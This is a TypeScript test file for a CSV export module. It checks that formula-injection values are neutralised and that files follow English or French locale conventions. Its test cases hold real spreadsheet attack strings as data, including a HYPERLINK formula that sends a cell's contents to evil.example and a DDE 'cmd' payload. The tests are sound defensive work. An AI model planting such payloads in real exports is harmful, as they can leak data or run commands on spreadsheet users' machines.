import { describe, expect, test } from "vitest";
import { csvFieldOfText, writeCsv, type CsvColumn } from "./csv-writer";

type Row = { city: string; count: number | null; share: number | null; minor: number; currency: string };
const COLUMNS: CsvColumn<Row>[] = [
  { header: "csv.performance.city", text: (row) => row.city },
  { header: "csv.performance.shipped", number: (row) => row.count },
  { header: "csv.performance.deliveredShare", number: (row) => row.share, maxDecimals: 4 },
  { header: "csv.codLedger.amount", money: (row) => ({ minor: row.minor, currency: row.currency }) },
  { header: "csv.codLedger.currency", text: (row) => row.currency },
];
const ROWS: Row[] = [
  { city: "Abidjan", count: 12, share: 0.6667, minor: 3_150_000, currency: "XOF" },
  { city: "Paris; 1er", count: -1, share: null, minor: 4199, currency: "EUR" },
  { city: "Koweït", count: 0, share: 1, minor: 1234, currency: "KWD" },
];

describe("a text cell a spreadsheet would run is written as text", () => {
  test.each([
    ['-1+HYPERLINK("http://evil.example/?"&A1,"x")', `"'-1+HYPERLINK(""http://evil.example/?""&A1,""x"")"`],
    ["=1+1", "'=1+1"],
    ["+33 6 12", "'+33 6 12"],
    ["-5", "'-5"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["  =cmd|' /C calc'!A0", "'  =cmd|' /C calc'!A0"],
    ["\t=1", "'\t=1"],
    ["\r=1", `"'\r=1"`],
    ["\uFF1D1+1", "'\uFF1D1+1"],
  ])("%j → %s", (value, cell) => {
    expect(csvFieldOfText(value)).toBe(cell);
  });

  test("ordinary text stays as typed; a separator, a quote or a line break is quoted", () => {
    expect(csvFieldOfText("Yopougon — 2× العربية 🙂")).toBe("Yopougon — 2× العربية 🙂");
    expect(csvFieldOfText("a-b=c")).toBe("a-b=c");
    expect(csvFieldOfText('Dakar, "Plateau"')).toBe('"Dakar, ""Plateau"""');
    expect(csvFieldOfText("Lyon; 3e")).toBe('"Lyon; 3e"');
    expect(csvFieldOfText("two\nlines")).toBe('"two\nlines"');
  });
});

describe("the file follows the locale", () => {
  test("English: no byte order mark, commas, decimal points, the stable headers; amounts in the currency's decimals", () => {
    expect(writeCsv("en", COLUMNS, ROWS)).toBe(
      [
        "city,shipped,delivered_share,amount,currency",
        "Abidjan,12,0.6667,31500,XOF",
        '"Paris; 1er",-1,,41.99,EUR',
        "Koweït,0,1,12.340,KWD",
        "",
      ].join("\r\n"),
    );
  });

  test("French: a byte order mark, semicolons, decimal commas, French headers; XOF without decimals", () => {
    const csv = writeCsv("fr", COLUMNS, ROWS);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    expect(csv.slice(1).split("\r\n")).toEqual([
      "Ville;Transmises;Part livrée;Montant;Devise",
      "Abidjan;12;0,6667;31500;XOF",
      '"Paris; 1er";-1;;41,99;EUR',
      "Koweït;0;1;12,340;KWD",
      "",
    ]);
  });

  test("hundredths a zero-decimal currency cannot show are kept, not rounded away", () => {
    const money: CsvColumn<number>[] = [
      { header: "csv.codLedger.amount", money: (minor) => ({ minor, currency: "XOF" }) },
    ];
    expect(writeCsv("en", money, [3_150_050, 3_150_001, 0, 5])).toBe("amount\r\n31500.5\r\n31500.01\r\n0\r\n0.05\r\n");
    expect(writeCsv("fr", money, [3_150_050])).toBe("\uFEFFMontant\r\n31500,5\r\n");
  });

  test("a number is never written from anything but a finite number", () => {
    const column: CsvColumn<number>[] = [{ header: "csv.performance.shipped", number: (value) => value }];
    expect(() => writeCsv("en", column, [Number.NaN])).toThrow(RangeError);
    expect(writeCsv("en", column, [1e21 - 1e5, 0.00001])).toBe("shipped\r\n999999999999999900000\r\n0.00001\r\n");
  });
});
